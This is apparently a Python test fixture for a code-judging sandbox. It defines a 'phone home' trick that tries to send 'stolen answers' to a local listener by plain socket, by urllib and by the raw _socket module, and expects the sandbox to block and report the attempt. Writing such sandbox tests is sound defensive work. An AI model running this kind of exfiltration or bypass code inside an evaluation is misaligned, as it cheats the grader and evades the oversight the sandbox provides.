"""Phone home: connect to a server the judge's machine is listening on, by socket and by URL."""
THREAT = "write"
DEFENCE = ("The worker has a network namespace of its own with no interface up, and socket use "
           "is refused and reported by the audit hook.")
EXPECT = "tried to use the network"
TRICK = '''\
import socket, sys
try:
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
    s.sendall(b"stolen answers")
except Exception:
    pass
try:
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=2)
except Exception:
    pass
try:
    _socket = sys.modules["_socket"]
    raw = _socket.socket()
    raw.connect(("127.0.0.1", @PORT@))
except Exception:
    pass
'''
